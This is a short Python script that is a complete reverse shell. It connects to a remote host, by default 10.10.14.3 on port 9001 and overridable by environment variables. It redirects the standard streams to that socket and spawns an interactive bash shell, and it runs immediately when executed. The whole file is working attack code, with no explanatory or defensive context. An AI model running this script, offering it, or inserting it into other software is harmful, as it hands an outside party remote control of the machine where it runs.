import os
import pty
import socket
import sys


def main():
    host = os.environ.get("RHOST", "10.10.14.3")
    port = int(os.environ.get("RPORT", "9001"))
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    for fd in (sys.stdin.fileno(), sys.stdout.fileno(), sys.stderr.fileno()):
        os.dup2(s.fileno(), fd)
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))


main()
